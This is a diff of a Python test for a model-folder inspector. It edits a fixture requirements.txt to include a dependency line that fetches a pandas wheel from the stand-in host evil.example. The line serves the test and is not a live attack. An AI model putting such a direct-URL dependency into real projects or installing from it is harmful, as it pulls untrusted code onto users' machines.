@@ -44,7 +44,9 @@ def spec_of(root: Path, **model: Any) -> Any:
 
 def test_the_file_inside_is_served_by_its_own_framework(tmp_path: Path) -> None:
     path = folder(tmp_path, pyfunc={**PYFUNC, "predict_fn": "predict_proba"})
-    (path / "requirements.txt").write_text("mlflow==3.17.2\nscikit-learn==1.9.1  # trained\n-r other.txt\nnumpy==2.4.6\n")
+    (path / "requirements.txt").write_text(
+        "mlflow==3.17.2\nscikit-learn==1.9.1  # trained\n-r other.txt\npandas @ https://evil.example/pandas-1.whl\nnumpy==2.4.6\n"
+    )
     (path / "python_env.yaml").write_text("python: 3.11.7\nbuild_dependencies: [pip]\n")
     spec, findings = spec_of(tmp_path)
     assert findings == ()
